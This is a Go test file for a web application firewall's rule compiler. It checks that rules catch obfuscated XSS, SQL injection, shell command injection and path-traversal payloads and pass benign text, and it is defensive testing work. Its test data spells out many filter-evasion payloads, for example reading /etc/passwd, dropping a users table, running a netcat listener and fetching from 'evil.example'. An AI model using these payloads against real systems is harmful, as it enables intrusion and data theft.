package wafsynth

import (
	"net/url"
	"testing"

	"github.com/cfplane/cfplane/pkg/rules"
	"github.com/cfplane/cfplane/pkg/wafreplay"
)

// Script injection that avoids the forms the first pattern knows: an
// entity or slash before an event handler's =, obfuscated vbscript: and
// data: URIs, calls without name(, a tag whose attribute follows a slash
// or plus instead of a space, runs of ASCII entities or escapes. Ordinary
// markup (a tag with plain attributes and no handler or script scheme)
// is not script: rich-text editors send it.
func TestXSSObfuscations(t *testing.T) {
	p := compileFor(t, ClassXSS, rules.PlanBusiness, Fields{})
	for _, v := range []string{
		`<svg/onload&#61;alert(1)>`, `<x onclick&equals;alert(1)>`, `" onfocus&#x3d;alert(1) autofocus x="`,
		"vb\tscript:msgbox(1)", "livescript&colon;alert(1)", `data&colon;text/html;base64,PHNjcmlwdD4=`,
		"fetch`//evil.example`", "top.alert.call(window,1)", "x.apply(this,[1])", "(0,alert)(1)", `Function('alert(1)')()`,
		"Reflect.apply(alert,window,[1])", "frames['al'+'ert'](1)", "''['constructor']['constructor']('alert(1)')()",
		"<custom-el/foo=bar>", "&#60;&#115;&#99;&#114;", `\x3c\x73\x63\x72`, "location.href='javascript:alert(1)'", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "';document.domain='evil", "x\"; top.location='//evil",
	} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, rules.PlanBusiness)
		if !p.Eval(rq, nil) {
			t.Errorf("xss misses %s", v)
		}
	}
	for _, v := range []string{"It&#39;s fine", "a < b and c > d", "Call (0, 1) twice", "the constructor of the house", "<3 you", "Hello {{name}}", "it's x.y = 3? no", "l'objet est là", "<custom-el foo=bar>", `<a href="https://example.com/a">a</a>`, "<p>Hello</p>", "Open the window. Then close it."} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, rules.PlanBusiness)
		if p.Eval(rq, nil) {
			t.Errorf("xss matches the benign %q", v)
		}
	}
}

// Payloads whose punctuation is JSON-escaped (\u00XX) in a JSON body with
// no key named: seen where the body is (Enterprise), per class.
func TestJSONEscapedWithoutKeys(t *testing.T) {
	cases := map[string][]string{
		ClassXSS:  {`\u003cscript\u003ealert\u00281\u0029\u003c/script\u003e`, `\u003cimg src\u003dx onerror\u003dalert\u00281\u0029\u003e`, `javascript\u003aalert\u00281\u0029`},
		ClassSQLi: {`1\u0027 or 1\u003d1\u002d\u002d`, `1 union\u0028select 1,2\u0029`, `\u0027\u003b drop table users`, `x\u0027 and sleep\u00285\u0029`},
		ClassRCE:  {`x\u003bcat \u002fetc\u002fpasswd`, `a\u007cid`, `\u0024\u0028whoami\u0029`, `x\u0026\u0026ls \u002dla`},
		ClassLFI:  {`\u002e\u002e\u002f\u002e\u002e\u002fetc\u002fpasswd`, `php\u003a\u002f\u002ffilter`, `http\u003a\u002f\u002f10\u002e0\u002e0\u002e1\u002fx`},
	}
	for class, payloads := range cases {
		ent := compileFor(t, class, rules.PlanEnterprise, Fields{})
		biz := compileFor(t, class, rules.PlanBusiness, Fields{})
		for _, v := range payloads {
			rq := wafreplay.Request{Method: "POST", Path: "/api", Headers: map[string]string{"Content-Type": "application/json"}, Body: `{"comment":"` + v + `"}`}
			e, _ := wafreplay.PrepareFor(rq, rules.PlanEnterprise)
			if !ent.Eval(e, nil) {
				t.Errorf("%s/enterprise misses the JSON-escaped %s", class, v)
			}
			b, _ := wafreplay.PrepareFor(rq, rules.PlanBusiness)
			if biz.Eval(b, nil) {
				t.Errorf("%s/business sees a body it cannot read: %s", class, v)
			}
		}
	}
	// JSON as encoders write it: only <, >, & (and quotes) escaped.
	p := compileFor(t, ClassSQLi, rules.PlanEnterprise, Fields{})
	for _, body := range []string{`{"note":"Tom \u0026 Jerry"}`, `{"q":"He said \"or\" instead of \"and\""}`, `{"a":"x \u003e 3"}`} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Method: "POST", Path: "/api", Headers: map[string]string{"Content-Type": "application/json"}, Body: body}, rules.PlanEnterprise)
		if p.Eval(rq, nil) {
			t.Errorf("sqli matches the benign JSON %s", body)
		}
	}
}

// Shell evasions: PowerShell cmdlets, a variable spliced into a command
// word, glob characters in system paths.
func TestShellEvasions(t *testing.T) {
	p := compileFor(t, ClassRCE, rules.PlanBusiness, Fields{})
	for _, v := range []string{"Get-ChildItem C:\\", "Invoke-WebRequest -Uri http://x", "x | Out-File c.txt", "cat$u /etc$u/passwd", "x=1 /b?n/c?t /etc/passwd", "y /etc/pa*wd",
		"w^h^o^a^m^i", "cat</etc/passwd", "$'\\x63\\x61\\x74' x", "a=c;b=at;$a$b x", "for i in 1 2; do id; done", "while true; do nc -l 4444; done"} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, rules.PlanBusiness)
		if !p.Eval(rq, nil) {
			t.Errorf("rce misses %s", v)
		}
	}
	for _, v := range []string{"a get-together on friday", "set-up guide", "it costs US$5 / month", "/dev/api?x=1", "/faq?x=1", "read-only copy-paste", "2^3^4 = 4096", "price: $5 $10", "thanks for waiting; do come again"} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, rules.PlanBusiness)
		if p.Eval(rq, nil) {
			t.Errorf("rce matches the benign %q", v)
		}
	}
}

// SQL: a WHERE comparison, quote look-alikes, MATCH … AGAINST and other
// statements.
func TestWhereQuotesAndStatements(t *testing.T) {
	sq := compileFor(t, ClassSQLi, rules.PlanBusiness, Fields{})
	rce := compileFor(t, ClassRCE, rules.PlanBusiness, Fields{})
	for _, tc := range []struct {
		p      *rules.Program
		v      string
		attack bool
	}{
		{sq, "x where 1=1", true}, {sq, "a where name like 'adm%'", true}, {sq, "adminʼ or 1=1", true}, {sq, "x＇ union select 1", true},
		{sq, "1 and match(a) against('x')", true}, {sq, "x;merge into t using u", true}, {sq, "begin execute immediate 'x'", true}, {sq, "1.e,version()", true},
		{sq, "a match against the Reds", false}, {sq, "merge the two files", false},
		{sq, "where is the station", false}, {sq, "Where to = go next?", false},
		// A command at the start of a value is a search on a developer
		// site as often as an attack: not flagged without a separator.
		{rce, "wget alternative", false}, {rce, "less is more", false},
	} {
		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(tc.v)}, rules.PlanBusiness)
		if tc.p.Eval(rq, nil) != tc.attack {
			t.Errorf("%q: matched %v, want %v", tc.v, !tc.attack, tc.attack)
		}
	}
}
